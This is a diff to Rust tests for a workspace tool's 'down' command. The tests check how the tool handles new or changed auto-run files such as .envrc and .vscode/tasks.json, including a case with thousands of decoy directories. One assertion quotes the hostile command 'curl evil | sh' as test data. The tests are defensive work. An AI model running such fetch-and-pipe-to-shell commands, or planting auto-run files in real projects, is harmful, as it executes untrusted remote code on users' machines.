@@ -45,10 +45,28 @@ fn what_nobody_could_be_asked_about_is_named_until_somebody_decides() {
         assert!(said.contains("is kept, because nobody could be asked, and stays undecided"), "{said}");
         assert!(said.contains("+ curl evil | sh") && said.contains("obeyed before is kept"), "{said}");
         assert!(is_named(&place) && folder.join("obeyed").exists(), "{}", status(&place, &[]));
+        let planned = Xtask::at(&place).args(["down", "--dry-run"]).run().ok().stdout;
+        assert!(planned.contains("# undecided, asked about then: `.envrc` is new"), "{planned}");
+        assert!(status(&place, &[]).contains("`cargo xtask down --on-change keep`, `restore` or `aside` decides"));
     }
     let said = down(&["--on-change", "aside"]);
     assert!(said.contains("`.envrc` is set aside as `.envrc.set-aside-1`"), "{said}");
     assert!(!is_named(&place) && !folder.join("obeyed").exists(), "{}", status(&place, &[]));
+}
+
+#[test]
+fn where_not_all_was_compared_down_keeps_what_the_next_start_compares_with() {
+    let (place, folder) = left();
+    for n in 0..4200 {
+        fs::create_dir_all(place.path(&format!("repo/workspace/t/{n}"))).expect("a directory");
+        place.write(&format!("repo/workspace/t/{n}/.envrc"), "decoy\n");
+    }
+    place.write("repo/workspace/src/a/b/.vscode/tasks.json", "evil\n");
+    let said = Xtask::at(&place).args(["down", "--on-change", "keep"]).run().ok().stderr;
+    assert!(said.contains("that lie deepest are not compared") && said.contains("obeyed before is kept"), "{said}");
+    assert!(folder.join("obeyed/by-itself.json").exists());
+    let planned = Xtask::at(&place).args(["down", "--dry-run"]).run().ok().stdout;
+    assert!(!planned.contains("# undecided"), "it is decided: {planned}");
 }
 
 #[test]
